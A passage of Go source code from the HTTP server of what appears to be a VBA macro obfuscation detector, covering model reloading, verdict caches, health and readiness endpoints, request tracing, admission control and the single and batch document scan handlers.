	return core.NewMacroCache(entries, bytes)
}

// wireDetector applies the server's per-detector configuration: resource
// limits, a fresh macro cache, and — when a classify window is configured —
// a micro-batching coalescer that merges feature rows from concurrent
// scans into one forest batch call, feeding the classify-batch histograms.
func (s *Server) wireDetector(det *core.Detector) {
	det.SetLimits(s.cfg.Limits)
	det.SetMacroCache(s.newMacroCache())
	if s.cfg.ClassifyBatchWindow > 0 {
		co := scan.NewCoalescer(det.PredictBatch, s.cfg.ClassifyBatchWindow, s.cfg.ClassifyBatchMaxRows)
		co.SetObserver(func(rows, callers int, wait time.Duration) {
			s.metrics.ClassifyBatchSize.ObserveValue(float64(rows))
			s.metrics.ClassifyBatchWait.Observe(wait)
		})
		det.SetClassifyBatch(co.Predict)
	}
}

// NewFromModelFile loads the model at cfg.ModelPath (or path, which
// overrides it) and returns a ready server.
func NewFromModelFile(path string, cfg Config) (*Server, error) {
	if path != "" {
		cfg.ModelPath = path
	}
	s := New(nil, cfg)
	if err := s.Reload(); err != nil {
		return nil, err
	}
	return s, nil
}

// Metrics exposes the server's metric tree (the /metrics payload).
func (s *Server) Metrics() *Metrics { return s.metrics }

// detector returns the current model under the read lock.
func (s *Server) detector() *core.Detector {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.det
}

// pipeline snapshots the scan pipeline under the read lock: the current
// model plus the document cache and request-collapsing group tied to it.
// It also leases the detector's model mapping — release must be called
// exactly once when the request's use of the detector ends (it is
// idempotent and never nil). While the lease is held, a concurrent
// Reload/Close cannot unmap the mmap'd model image out from under an
// in-flight scan; the image is unmapped when the last lease releases.
func (s *Server) pipeline() (*core.Detector, *scan.DocCache, *cache.Flight[scanOutcome], func()) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	release := func() {}
	if s.det != nil {
		// Retain cannot fail here: the detector still owns its mapping
		// reference until a Reload swaps it out, which needs the write lock.
		if m := s.det.ModelMapping(); m != nil && m.Retain() {
			var once sync.Once
			release = func() { once.Do(m.Release) }
		}
	}
	return s.det, s.docs, s.flight, release
}

// docCacheStats returns document-cache counters accumulated across model
// reloads (counters from retired caches are folded into the base, so the
// exported metrics stay monotonic).
func (s *Server) docCacheStats() cache.Stats {
	s.mu.RLock()
	defer s.mu.RUnlock()
	st := s.docs.Stats()
	st.Hits += s.cacheBase.doc.Hits
	st.Misses += s.cacheBase.doc.Misses
	st.Evictions += s.cacheBase.doc.Evictions
	return st
}

// macroCacheStats is docCacheStats for the macro-level cache.
func (s *Server) macroCacheStats() cache.Stats {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var st cache.Stats
	if s.det != nil {
		st = s.det.MacroCache().Stats()
	}
	st.Hits += s.cacheBase.macro.Hits
	st.Misses += s.cacheBase.macro.Misses
	st.Evictions += s.cacheBase.macro.Evictions
	return st
}

// registerCacheMetrics publishes the verdict-cache counters and gauges.
// Counters read through the reload-safe accumulators; gauges reflect the
// live caches only.
func (s *Server) registerCacheMetrics() {
	reg := s.metrics.Registry()
	reg.CounterFunc("cache_hits",
		"Scans served from the document verdict cache.",
		func() int64 { return s.docCacheStats().Hits })
	reg.CounterFunc("cache_misses",
		"Scans that missed the document verdict cache.",
		func() int64 { return s.docCacheStats().Misses })
	reg.CounterFunc("cache_evictions",
		"Reports evicted from the document verdict cache.",
		func() int64 { return s.docCacheStats().Evictions })
	reg.GaugeFunc("cache_entries",
		"Reports currently held by the document verdict cache.",
		func() float64 { return float64(s.docCacheStats().Entries) })
	reg.GaugeFunc("cache_bytes",
		"Approximate bytes retained by the document verdict cache.",
		func() float64 { return float64(s.docCacheStats().Bytes) })
	reg.CounterFunc("macro_cache_hits",
		"Macros served from the macro verdict cache.",
		func() int64 { return s.macroCacheStats().Hits })
	reg.CounterFunc("macro_cache_misses",
		"Macros that missed the macro verdict cache.",
		func() int64 { return s.macroCacheStats().Misses })
	reg.CounterFunc("macro_cache_evictions",
		"Entries evicted from the macro verdict cache.",
		func() int64 { return s.macroCacheStats().Evictions })
	reg.GaugeFunc("macro_cache_entries",
		"Entries currently held by the macro verdict cache.",
		func() float64 { return float64(s.macroCacheStats().Entries) })
	reg.GaugeFunc("macro_cache_bytes",
		"Approximate bytes retained by the macro verdict cache.",
		func() float64 { return float64(s.macroCacheStats().Bytes) })
	// First-class hit ratios, computed from the monotonic counters so
	// dashboards and the fleet gateway don't each re-derive them. Lifetime
	// ratios (counters survive reloads via cacheBase); 0 until the first
	// lookup.
	reg.GaugeFunc("cache_hit_ratio",
		"Lifetime document verdict cache hit ratio (hits / lookups).",
		func() float64 { return hitRatio(s.docCacheStats()) })
	reg.GaugeFunc("macro_cache_hit_ratio",
		"Lifetime macro verdict cache hit ratio (hits / lookups).",
		func() float64 { return hitRatio(s.macroCacheStats()) })
}

// hitRatio derives hits/(hits+misses) from a counter snapshot, 0 when the
// cache has never been consulted.
func hitRatio(st cache.Stats) float64 {
	total := st.Hits + st.Misses
	if total == 0 {
		return 0
	}
	return float64(st.Hits) / float64(total)
}

// Reload re-reads Config.ModelPath and swaps the detector in under the
// write lock; in-flight scans keep the model they started with. Both
// verdict caches are replaced along with the model — cached verdicts are
// only valid for the model that produced them — with their counters
// folded into the monotonic metric base.
func (s *Server) Reload() error {
	if s.cfg.ModelPath == "" {
		return errors.New("server: no model path configured")
	}
	det, err := core.LoadModelFile(s.cfg.ModelPath, s.cfg.ModelMmap)
	if err != nil {
		return fmt.Errorf("server: reload: %w", err)
	}
	s.wireDetector(det)
	drift := s.newDriftMonitor(det)
	var docs *scan.DocCache
	var flight *cache.Flight[scanOutcome]
	if entries, bytes, ok := s.cfg.cacheBounds(); ok {
		docs = scan.NewDocCache(entries, bytes)
		flight = &cache.Flight[scanOutcome]{}
	}
	s.mu.Lock()
	oldDoc := s.docs.Stats()
	s.cacheBase.doc.Hits += oldDoc.Hits
	s.cacheBase.doc.Misses += oldDoc.Misses
	s.cacheBase.doc.Evictions += oldDoc.Evictions
	oldDet := s.det
	if oldDet != nil {
		old := oldDet.MacroCache().Stats()
		s.cacheBase.macro.Hits += old.Hits
		s.cacheBase.macro.Misses += old.Misses
		s.cacheBase.macro.Evictions += old.Evictions
	}
	s.det = det
	s.docs = docs
	s.flight = flight
	s.drift = drift
	s.mu.Unlock()
	if oldDet != nil {
		// Drop the retired detector's ownership of its model mapping. The
		// image stays mapped until the last in-flight scan that leased it
		// through pipeline() releases.
		_ = oldDet.Close()
	}
	s.metrics.Reloads.Add(1)
	s.log.Info("model reloaded",
		"path", s.cfg.ModelPath,
		"algorithm", string(det.Algorithm()),
		"feature_set", det.FeatureSet().String())
	return nil
}

// BeginShutdown flips /readyz to 503 so load balancers stop routing new
// traffic while http.Server.Shutdown drains in-flight requests.
func (s *Server) BeginShutdown() { s.draining.Store(true) }

// Close stops the intake workers (waiting for jobs they hold), closes the
// intake journal, and releases the current detector's model mapping, if
// any. Call after Drain: the mmap'd model image is unmapped once no
// in-flight scan holds a lease on it. Idempotent.
func (s *Server) Close() error {
	s.stopIntake()
	s.mu.RLock()
	det := s.det
	s.mu.RUnlock()
	if det != nil {
		return det.Close()
	}
	return nil
}

// Drain blocks until every in-flight scan has finished (including scans
// whose requester already timed out) or ctx expires.
func (s *Server) Drain(ctx context.Context) error {
	done := make(chan struct{})
	go func() {
		s.inflight.Wait()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Handler builds the daemon's routing table wrapped in request logging.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/scan", s.handleScan)
	mux.HandleFunc("POST /v1/scan/batch", s.handleScanBatch)
	mux.HandleFunc("GET /v1/model", s.handleModel)
	mux.HandleFunc("POST /v1/admin/reload", s.handleReload)
	mux.HandleFunc("GET /v1/admin/debug/bundle", s.handleDebugBundle)
	mux.HandleFunc("GET /healthz", s.handleHealthz)
	mux.HandleFunc("GET /readyz", s.handleReadyz)
	mux.Handle("GET /metrics", s.metrics)
	if s.intake != nil {
		mux.HandleFunc("POST /v1/submit", s.intake.handleSubmit)
		mux.HandleFunc("GET /v1/tickets/{id}", s.intake.handleTicket)
		mux.HandleFunc("GET /v1/admin/intake/dead", s.intake.handleDeadLetters)
		mux.HandleFunc("POST /v1/admin/intake/redrive/{id}", s.intake.handleRedrive)
	}
	if s.cfg.EnablePprof {
		mux.HandleFunc("/debug/pprof/", pprof.Index)
		mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
		mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
		mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
		mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	}
	return s.withRequestLog(mux)
}

// statusWriter captures the response status for logging and metrics.
type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(code int) {
	w.status = code
	w.ResponseWriter.WriteHeader(code)
}

// requestIDKey carries the per-request ID through the context.
type requestIDKey struct{}

// requestID extracts the request's ID (set by withRequestLog).
func requestID(ctx context.Context) string {
	id, _ := ctx.Value(requestIDKey{}).(string)
	return id
}

// traceContextKey carries the request's W3C trace context.
type traceContextKey struct{}

// traceContext extracts the request's trace context (set by
// withRequestLog). The context's SpanID is the server's own span for this
// request — handing it to the next hop parents that hop under us.
func traceContext(ctx context.Context) telemetry.TraceContext {
	tc, _ := ctx.Value(traceContextKey{}).(telemetry.TraceContext)
	return tc
}

// withRequestLog assigns every request an ID (honoring X-Request-ID) and
// a W3C trace context (joining an incoming traceparent or minting a fresh
// trace), echoes both on the response, logs the request structured on
// completion, and feeds the request metrics and the /v1/ SLO tracker.
func (s *Server) withRequestLog(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		id := r.Header.Get("X-Request-ID")
		if id == "" {
			id = fmt.Sprintf("req-%06d", s.reqSeq.Add(1))
		}
		w.Header().Set("X-Request-ID", id)
		// Join the caller's trace when a valid traceparent came in (our
		// span becomes a child of theirs); otherwise root a fresh trace,
		// so every request is traceable either way.
		tc, _ := telemetry.ParseTraceparent(r.Header.Get("traceparent"))
		if tc.IsValid() {
			tc = tc.Child()
		} else {
			tc = telemetry.NewTraceContext()
		}
		w.Header().Set("traceparent", tc.Traceparent())
		sw := &statusWriter{ResponseWriter: w, status: http.StatusOK}
		ctx := context.WithValue(r.Context(), requestIDKey{}, id)
		ctx = context.WithValue(ctx, traceContextKey{}, tc)
		next.ServeHTTP(sw, r.WithContext(ctx))
		elapsed := time.Since(start)
		s.metrics.Requests.Add(r.Method+" "+r.URL.Path, 1)
		s.metrics.observeStatus(sw.status)
		if strings.HasPrefix(r.URL.Path, "/v1/") {
			s.slo.Observe(sw.status, elapsed)
		}
		s.log.Info("request",
			"id", id,
			"trace_id", tc.TraceID,
			"method", r.Method,
			"path", r.URL.Path,
			"status", sw.status,
			"elapsed_ms", float64(elapsed.Nanoseconds())/1e6,
			"remote", r.RemoteAddr)
	})
}

func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, s.healthBody())
}

// healthBody assembles the /healthz payload (also bundled by the debug
// endpoint). Drift is a detail, never a failure: a drifting model still
// answers scans, it just tells operators to look at it.
func (s *Server) healthBody() map[string]any {
	resp := map[string]any{"status": "ok"}
	if in := s.intake; in != nil {
		st := in.q.Stats()
		resp["intake"] = map[string]any{
			"depth":    st.Depth,
			"inflight": st.InFlight,
			"dead":     st.Dead,
		}
	}
	s.mu.RLock()
	drift := s.drift
	s.mu.RUnlock()
	if name, psi, ok := drift.MaxPSI(); ok {
		status := "ok"
		if psi >= s.cfg.DriftWarnPSI {
			status = "warn"
		}
		resp["drift"] = map[string]any{
			"status":        status,
			"worst_channel": name,
			"max_psi":       psi,
			"warn_psi":      s.cfg.DriftWarnPSI,
		}
	}
	if s.slo != nil {
		short := s.slo.Read(telemetry.SLOShortWindow)
		long := s.slo.Read(telemetry.SLOLongWindow)
		resp["slo"] = map[string]any{
			"availability_5m":      short.Availability,
			"availability_1h":      long.Availability,
			"availability_burn_5m": short.AvailabilityBurn,
			"latency_burn_5m":      short.LatencyBurn,
		}
	}
	return resp
}

// ChannelInfo is one feature channel's identity in the /v1/model payload.
type ChannelInfo struct {
	Name    string `json:"name"`
	Version int    `json:"version"`
	Dim     int    `json:"dim"`
}

// ModelResponse is the GET /v1/model payload: the loaded model's full
// identity. A fleet gateway compares ModelSHA256 and FeatureSetID across
// backends to detect version skew before routing; operators previously had
// to scrape vbadetect_build_info to recover the same facts.
type ModelResponse struct {
	// ModelSHA256 is the hex SHA-256 of the serialized model image.
	ModelSHA256 string `json:"model_sha256"`
	// FeatureSet is the human-readable feature-set name ("v", "stack", ...).
	FeatureSet string `json:"feature_set"`
	// FeatureSetID is the cache-salt identity (set name plus every
	// channel's name@version:dim) — the same string salted into verdict
	// cache keys.
	FeatureSetID string        `json:"feature_set_id"`
	Algorithm    string        `json:"algorithm"`
	Channels     []ChannelInfo `json:"channels"`
	// Version and GoVersion mirror the vbadetect_build_info labels.
	Version   string `json:"version"`
	GoVersion string `json:"go_version"`
}

// handleModel reports the loaded model's identity as JSON. 503 until a
// model is loaded — a gateway treats that exactly like an unready backend.
func (s *Server) handleModel(w http.ResponseWriter, r *http.Request) {
	det := s.detector()
	if det == nil {
		s.setRetryAfter(w, retryAfterNotReady)
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"error": "no model loaded"})
		return
	}
	fs := det.FeatureSet()
	chans := fs.Channels()
	info := make([]ChannelInfo, len(chans))
	for i, c := range chans {
		info[i] = ChannelInfo{Name: c.Name, Version: c.Version, Dim: c.Dim()}
	}
	writeJSON(w, http.StatusOK, ModelResponse{
		ModelSHA256:  det.ModelSHA(),
		FeatureSet:   fs.String(),
		FeatureSetID: det.FeatureSetID(),
		Algorithm:    string(det.Algorithm()),
		Channels:     info,
		Version:      buildVersion(),
		GoVersion:    runtime.Version(),
	})
}

// Retry-After hints on backpressure responses, in seconds. A draining
// server is about to disappear behind its load balancer, so the hint is
// longer than a transient not-ready blip.
const (
	retryAfterNotReady = 1
	retryAfterDraining = 10
)

// setRetryAfter attaches a Retry-After hint so clients (and the fleet
// gateway's hedging/backoff) know when a retry is worth sending instead of
// guessing.
func (s *Server) setRetryAfter(w http.ResponseWriter, seconds int) {
	w.Header().Set("Retry-After", strconv.Itoa(seconds))
}

// writeNotReady answers a scan that arrived while the server is draining
// or has no model, with a Retry-After matching the cause.
func (s *Server) writeNotReady(w http.ResponseWriter) {
	if s.draining.Load() {
		s.setRetryAfter(w, retryAfterDraining)
	} else {
		s.setRetryAfter(w, retryAfterNotReady)
	}
	writeJSON(w, http.StatusServiceUnavailable, map[string]string{"error": "not ready"})
}

func (s *Server) handleReadyz(w http.ResponseWriter, r *http.Request) {
	switch {
	case s.draining.Load():
		s.setRetryAfter(w, retryAfterDraining)
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"status": "draining"})
	case s.detector() == nil:
		s.setRetryAfter(w, retryAfterNotReady)
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"status": "no model loaded"})
	default:
		if msg := s.intakeNotReady(); msg != "" {
			s.setRetryAfter(w, retryAfterNotReady)
			writeJSON(w, http.StatusServiceUnavailable, map[string]string{"status": msg})
			return
		}
		writeJSON(w, http.StatusOK, map[string]string{"status": "ready"})
	}
}

func (s *Server) handleReload(w http.ResponseWriter, r *http.Request) {
	if s.cfg.ModelPath == "" {
		s.metrics.Errors.Add("bad_request", 1)
		writeJSON(w, http.StatusConflict, map[string]string{"error": "no model path configured"})
		return
	}
	if err := s.Reload(); err != nil {
		s.metrics.Errors.Add("internal", 1)
		writeJSON(w, http.StatusInternalServerError, map[string]string{"error": err.Error()})
		return
	}
	det := s.detector()
	writeJSON(w, http.StatusOK, map[string]any{
		"reloaded":    true,
		"algorithm":   string(det.Algorithm()),
		"feature_set": det.FeatureSet().String(),
	})
}

// StageMS is per-stage pipeline latency in milliseconds.
type StageMS struct {
	Extract   float64 `json:"extract"`
	Featurize float64 `json:"featurize"`
	Classify  float64 `json:"classify"`
}

func stageMS(tm core.Timings) *StageMS {
	return &StageMS{
		Extract:   float64(tm.ExtractNS) / 1e6,
		Featurize: float64(tm.FeaturizeNS) / 1e6,
		Classify:  float64(tm.ClassifyNS) / 1e6,
	}
}

// ScanResponse is the JSON body for one scanned document.
type ScanResponse struct {
	RequestID string `json:"request_id,omitempty"`
	// TraceID is the W3C trace this request joined (or was minted for);
	// the same ID appears in the response's traceparent header, the
	// access log and the audit event.
	TraceID    string           `json:"trace_id,omitempty"`
	File       string           `json:"file"`
	NoMacros   bool             `json:"no_macros,omitempty"`
	Report     *core.ReportJSON `json:"report,omitempty"`
	Error      string           `json:"error,omitempty"`
	ErrorClass string           `json:"error_class,omitempty"`
	Stages     *StageMS         `json:"stage_ms,omitempty"`
	// Cached marks a report served from the document verdict cache, or
	// collapsed into a concurrent identical scan (stage timings then
	// belong to the request that did the work, so stage_ms is omitted).
	Cached bool `json:"cached,omitempty"`
	// Backend is filled by the fleet gateway: the backend that produced
	// this verdict ("" when scanned directly on this daemon).
	Backend string `json:"backend,omitempty"`
	// SharedCache marks a verdict answered entirely from the gateway's
	// fleet-wide shared verdict tier — no backend was contacted.
	SharedCache bool    `json:"shared_cache,omitempty"`
	ElapsedMS   float64 `json:"elapsed_ms"`
	// Trace is the per-document span tree, present only when the request
	// asked for it with ?trace=1.
	Trace *telemetry.Trace `json:"trace,omitempty"`
}

// BatchStats summarizes one batch request.
type BatchStats struct {
	Files       int64   `json:"files"`
	Macros      int64   `json:"macros"`
	Skipped     int64   `json:"skipped"`
	Errors      int64   `json:"errors"`
	WallMS      float64 `json:"wall_ms"`
	FilesPerSec float64 `json:"files_per_sec"`
}

// BatchResponse is the JSON body for /v1/scan/batch.
type BatchResponse struct {
	RequestID string         `json:"request_id"`
	Files     []ScanResponse `json:"files"`
	Stats     BatchStats     `json:"stats"`
}

// acquireSlot takes a semaphore slot, waiting up to QueueWait. It reports
// false (after writing the error response) when the server is saturated or
// the client went away. The wait is measured into its own histogram so
// admission-control queueing is visible separately from scan latency.
func (s *Server) acquireSlot(w http.ResponseWriter, r *http.Request) bool {
	wait := time.Now()
	s.metrics.QueueDepth.Add(1)
	defer func() {
		s.metrics.QueueDepth.Add(-1)
		s.metrics.QueueWait.Observe(time.Since(wait))
	}()
	timer := time.NewTimer(s.cfg.QueueWait)
	defer timer.Stop()
	select {
	case s.sem <- struct{}{}:
		return true
	case <-timer.C:
		s.metrics.Errors.Add("busy", 1)
		s.setRetryAfter(w, retryAfterNotReady)
		writeJSON(w, http.StatusTooManyRequests, map[string]string{"error": "server saturated, retry later"})
		return false
	case <-r.Context().Done():
		writeJSON(w, http.StatusServiceUnavailable, map[string]string{"error": "client canceled"})
		return false
	}
}

// readDocument pulls the document bytes out of the request: either the
// first file part of a multipart form, or the raw body. The body is capped
// at MaxBodyBytes either way.
func (s *Server) readDocument(w http.ResponseWriter, r *http.Request) (name string, data []byte, err error) {
	name = r.Header.Get("X-Filename")
	if name == "" {
		name = "document"
	}
	ct, _, _ := mime.ParseMediaType(r.Header.Get("Content-Type"))
	body := http.MaxBytesReader(w, r.Body, s.cfg.MaxBodyBytes)
	if strings.HasPrefix(ct, "multipart/") {
		r.Body = body
		if err := r.ParseMultipartForm(s.cfg.MaxBodyBytes); err != nil {
			return name, nil, err
		}
		for _, headers := range r.MultipartForm.File {
			for _, fh := range headers {
				f, err := fh.Open()
				if err != nil {
					return name, nil, err
				}
				data, err = io.ReadAll(f)
				f.Close()
				if err != nil {
					return name, nil, err
				}
				if fh.Filename != "" {
					name = fh.Filename
				}
				return name, data, nil
			}
		}
		return name, nil, errors.New("multipart form has no file part")
	}
	data, err = io.ReadAll(body)
	return name, data, err
}

// scanOutcome is what the scan goroutine hands back across the timeout
// boundary.
type scanOutcome struct {
	report *core.FileReport
	tm     core.Timings
	err    error
	// shared marks an outcome computed by a concurrent identical request
	// this one collapsed into.
	shared bool
}

// runScan executes one panic-isolated scan under the request deadline.
// The scan goroutine always runs to completion (CPU-bound work is not
// cancelable mid-document); on timeout the request returns early while
// the goroutine finishes in the background, still counted in-flight so
// shutdown drains it and still holding its semaphore slot so admission
// control reflects true load.
//
// When caching is enabled, concurrent requests for the same bytes collapse
// into one pipeline run through flight: the leader scans and populates the
// document cache, followers wait for its outcome while still holding their
// own admission slots (so admission control keeps reflecting queued
// demand). Errors and degraded reports are shared with the waiting
// followers but never cached — a later request re-runs the pipeline.
func (s *Server) runScan(ctx context.Context, det *core.Detector, data []byte,
	key cache.Key, docs *scan.DocCache, flight *cache.Flight[scanOutcome], release func()) (scanOutcome, bool) {
	done := make(chan scanOutcome, 1)
	s.inflight.Add(1)
	go func() {
		defer s.inflight.Done()
		defer release() // model-mapping lease ends only when the scan does
		defer func() { <-s.sem }()
		defer s.metrics.InFlight.Add(-1)
		s.metrics.InFlight.Add(1)
		// scan.ScanOne already isolates pipeline panics; this second net
		// catches anything outside it so no request can kill the daemon.
		run := func() scanOutcome {
			var out scanOutcome
			func() {
				defer func() {
					if p := recover(); p != nil {
						out = scanOutcome{err: &scan.PanicError{Value: p, Stack: debug.Stack()}}
					}
				}()
				if s.scanGate != nil {
					s.scanGate()
				}
				out.report, out.tm, out.err = scan.ScanOneCtx(ctx, det, data)
			}()
			return out
		}
		var out scanOutcome
		if flight != nil {
			var leader bool
			out, _, leader = flight.Do(key, func() (scanOutcome, error) {
				o := run()
				if o.err == nil {
					docs.Put(key, o.report) // Put refuses degraded reports
				}
				return o, nil
			})
			out.shared = !leader
		} else {
			out = run()
		}
		done <- out
	}()
	select {
	case out := <-done:
		return out, true
	case <-ctx.Done():
		return scanOutcome{}, false
	}
}

// recordOutcome feeds one document's result into the metric tree and fills
// the response fields shared by the single and batch endpoints. A cached
// outcome (document-cache hit or collapsed request) still counts toward
// scans, macros and verdicts, but contributes no stage-latency samples —
// the request did no pipeline work of its own.
func (s *Server) recordOutcome(resp *ScanResponse, out scanOutcome, cached bool) {
	s.metrics.Scans.Add(1)
	if cached {
		resp.Cached = true
	} else {
		s.metrics.StageExtract.Observe(time.Duration(out.tm.ExtractNS))
		s.metrics.StageFeaturize.Observe(time.Duration(out.tm.FeaturizeNS))
		s.metrics.StageClassify.Observe(time.Duration(out.tm.ClassifyNS))
		resp.Stages = stageMS(out.tm)
	}
	if out.err != nil {
		if errors.Is(out.err, extract.ErrNoMacros) {
			s.metrics.Verdicts.Add("no_macros", 1)
			resp.NoMacros = true
			return
		}
		class := errorClass(out.err)
		s.metrics.Errors.Add(class, 1)
		if hostile.ExhaustsBudget(out.err) {
			s.metrics.Quarantined.Add(1)
			if name := hostile.LimitName(out.err); name != "" {
				s.metrics.LimitHits.Add(name, 1)
			}
		}
		resp.Error = out.err.Error()
		resp.ErrorClass = class
		return
	}
	s.metrics.Macros.Add(int64(len(out.report.Macros)))
	s.metrics.MacrosSkipped.Add(int64(out.report.Skipped))
	// Score distributions feed the drift monitor and the score histogram
	// regardless of cache state: drift watches the traffic the model
	// answers, and a cached verdict is still an answer.
	for _, m := range out.report.Macros {
		s.metrics.MacroScores.ObserveValue(m.Score)
		for _, ch := range m.Channels {
			s.observeDrift(ch.Channel, ch.Score)
		}
	}
	if out.report.Degraded {
		s.metrics.Degraded.Add(1)
		for _, se := range out.report.Errors {
			if name := hostile.LimitName(se.Err); name != "" {
				s.metrics.LimitHits.Add(name, 1)
			}
		}
	}
	if out.report.Obfuscated() {
		s.metrics.Verdicts.Add("obfuscated", 1)
	} else {
		s.metrics.Verdicts.Add("clean", 1)
	}
	resp.Report = out.report.JSON()
}

// errorClass buckets a scan failure for the errors metric: panic and
// internal faults first, then the hostile taxonomy class ("truncated",
// "malformed", "bomb", "limit", "cycle", "deadline"), then generic
// "parse" for legacy untyped failures.
func errorClass(err error) string {
	var pe *scan.PanicError
	switch {
	case errors.As(err, &pe):
		return "panic"
	case errors.Is(err, core.ErrNotTrained):
		return "internal"
	}
	if class := hostile.Classify(err); class != "" {
		return class
	}
	return "parse"
}

func (s *Server) handleScan(w http.ResponseWriter, r *http.Request) {
	start := time.Now()
	det, docs, flight, release := s.pipeline()
	if det == nil || s.draining.Load() {
		release()
		s.writeNotReady(w)
		return
	}
	name, data, err := s.readDocument(w, r)
	if err != nil {
		release()
		s.writeBodyError(w, err)
		return
	}
	// A document-cache hit is served before admission control: it costs
	// one hash and one lookup, so it should never queue behind scans.
	var key cache.Key
	if docs != nil {
		// Salted with the feature-set identity so a reload onto a different
		// channel layout can never serve entries written under the old one.
		key = cache.KeyOfSalted(det.FeatureSetID(), data)
		if report, ok := docs.Get(key); ok {
			release()
			resp := ScanResponse{RequestID: requestID(r.Context()),
				TraceID: traceContext(r.Context()).TraceID, File: name}
			s.recordOutcome(&resp, scanOutcome{report: report}, true)
			scan.LogAudit(s.cfg.Audit, scan.Document{Name: name, Data: data}, det.FeatureSet(),
				scan.Result{Name: name, Report: report, CacheHit: true,
					TraceID: traceContext(r.Context()).TraceID, RequestID: requestID(r.Context())})
			resp.ElapsedMS = float64(time.Since(start).Nanoseconds()) / 1e6
			s.metrics.RequestLatency.Observe(time.Since(start))
			writeJSON(w, http.StatusOK, resp)
			return
		}
	}
	if !s.acquireSlot(w, r) {
		release()
		return
	}
	ctx, cancel := context.WithTimeout(r.Context(), s.cfg.ScanTimeout)
	defer cancel()
	var tr *telemetry.Tracer
	if r.URL.Query().Get("trace") == "1" {
		tr = telemetry.NewTracer(name)
		tr.SetTraceContext(traceContext(r.Context()))
		ctx = telemetry.ContextWithTracer(ctx, tr)
	}
	out, ok := s.runScan(ctx, det, data, key, docs, flight, release)
	resp := ScanResponse{RequestID: requestID(r.Context()),
		TraceID: traceContext(r.Context()).TraceID, File: name}
	if !ok {
		s.metrics.Errors.Add("timeout", 1)
		resp.Error = "scan deadline exceeded"
		resp.ErrorClass = "timeout"
		resp.ElapsedMS = float64(time.Since(start).Nanoseconds()) / 1e6
		writeJSON(w, http.StatusGatewayTimeout, resp)
		return
	}
	if tr != nil {
		tr.Finish()
		resp.Trace = tr.Trace()
		s.recent.Add(resp.Trace)
	}
	s.recordOutcome(&resp, out, out.shared)
	scan.LogAudit(s.cfg.Audit, scan.Document{Name: name, Data: data}, det.FeatureSet(),
		scan.Result{Name: name, Report: out.report, Timings: out.tm, Err: out.err,
			Attempts: 1, Quarantined: out.err != nil && hostile.ExhaustsBudget(out.err),
			TraceID: traceContext(r.Context()).TraceID, RequestID: requestID(r.Context())})
	resp.ElapsedMS = float64(time.Since(start).Nanoseconds()) / 1e6
	s.metrics.RequestLatency.Observe(time.Since(start))
	writeJSON(w, statusFor(&resp), resp)
}

// statusFor maps a scan outcome to its HTTP status. The hostile taxonomy
// maps onto client-fault statuses: malformed, truncated, cyclic and
// budget-breaching documents are 422 (the request was well-formed, the
// document is not processable), a deadline overrun inside the pipeline is
// 504, and only server faults (panic, untrained model) are 500. A degraded
// scan is a success — 200 with "degraded": true in the report.
func statusFor(resp *ScanResponse) int {
	switch resp.ErrorClass {
	case "":
		return http.StatusOK
	case "panic", "internal":
		return http.StatusInternalServerError
	case "deadline":
		return http.StatusGatewayTimeout
	default:
		return http.StatusUnprocessableEntity
	}
}

// writeBodyError distinguishes an oversized body (413) from a malformed
// request (400).
func (s *Server) writeBodyError(w http.ResponseWriter, err error) {
	var maxErr *http.MaxBytesError
	if errors.As(err, &maxErr) {
		s.metrics.Errors.Add("oversize", 1)
		writeJSON(w, http.StatusRequestEntityTooLarge,
			map[string]string{"error": fmt.Sprintf("body exceeds %d byte limit", s.cfg.MaxBodyBytes)})
		return
	}
	s.metrics.Errors.Add("bad_request", 1)
	writeJSON(w, http.StatusBadRequest, map[string]string{"error": err.Error()})
}

func (s *Server) handleScanBatch(w http.ResponseWriter, r *http.Request) {
	start := time.Now()
	det, dcache, _, release := s.pipeline()
	if det == nil || s.draining.Load() {
		release()
		s.writeNotReady(w)
		return
	}
	r.Body = http.MaxBytesReader(w, r.Body, s.cfg.MaxBodyBytes)
	if err := r.ParseMultipartForm(s.cfg.MaxBodyBytes); err != nil {
		release()
		s.writeBodyError(w, err)
		return
	}
	var docs []scan.Document
	for _, headers := range r.MultipartForm.File {
		for _, fh := range headers {
			if len(docs) >= s.cfg.MaxBatchFiles {
				release()
				s.metrics.Errors.Add("bad_request", 1)
				writeJSON(w, http.StatusRequestEntityTooLarge,
					map[string]string{"error": fmt.Sprintf("batch exceeds %d file limit", s.cfg.MaxBatchFiles)})
				return
			}
			f, err := fh.Open()
			if err != nil {
				release()
				s.writeBodyError(w, err)
				return
			}
			data, err := io.ReadAll(f)
			f.Close()
			if err != nil {
				release()
				s.writeBodyError(w, err)
				return
			}
			docs = append(docs, scan.Document{Name: fh.Filename, Data: data})
		}
	}
	if len(docs) == 0 {
		release()
		s.metrics.Errors.Add("bad_request", 1)
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "multipart form has no file parts"})
		return
	}
	if !s.acquireSlot(w, r) {
		release()
		return
	}
	ctx, cancel := context.WithTimeout(r.Context(), s.cfg.ScanTimeout)
	defer cancel()

	engine := scan.New(det, s.cfg.BatchWorkers)
	engine.SetAudit(s.cfg.Audit)
	engine.SetDocCache(dcache)
	var results []scan.Result
	var stats *scan.Stats
	done := make(chan error, 1)
	s.inflight.Add(1)
	go func() {
		defer s.inflight.Done()
		defer release() // model-mapping lease ends only when the batch does
		defer func() { <-s.sem }()
		defer s.metrics.InFlight.Add(-1)
		s.metrics.InFlight.Add(1)
		var err error
		func() {
			defer func() {
				if p := recover(); p != nil {
					err = &scan.PanicError{Value: p, Stack: debug.Stack()}
				}
			}()
			if s.scanGate != nil {
				s.scanGate()
			}
